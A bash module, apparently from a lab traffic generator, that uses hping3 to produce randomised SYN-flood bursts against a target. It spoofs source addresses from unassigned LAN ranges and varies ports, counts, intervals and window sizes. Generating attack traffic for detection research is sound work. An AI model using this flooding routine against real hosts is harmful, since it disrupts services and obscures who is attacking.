# SPDX-License-Identifier: BSD-2-Clause
# Bursts of SYNs by hping3, from the attacker's or from unassigned LAN addresses.
# shellcheck shell=bash

synflood_session() {
	local from count
	ends v4
	from=$C
	chance 60 && rnd "$LAB_SPOOF_FIRST" "$LAB_SPOOF_LAST" && from=$LAB_LAN4.$REPLY
	rndlog 60 500
	count=$REPLY
	pick 80 443 443 22 1883 53
	local args=(-q -n -I eth0 -S -p "$REPLY" -a "$from" -c "$count")
	rndlog 800 8000
	args+=(-i "u$REPLY")
	chance 30 && args+=(-d $((RANDOM % 200)))
	chance 30 && args+=(-w $((RANDOM + 512)))
	timeout 6 hping3 "${args[@]}" "$S"
}

kind_run() {
	rnd 1800 3600
	every "$REPLY" $((REPLY * 2)) synflood_session 1500
}
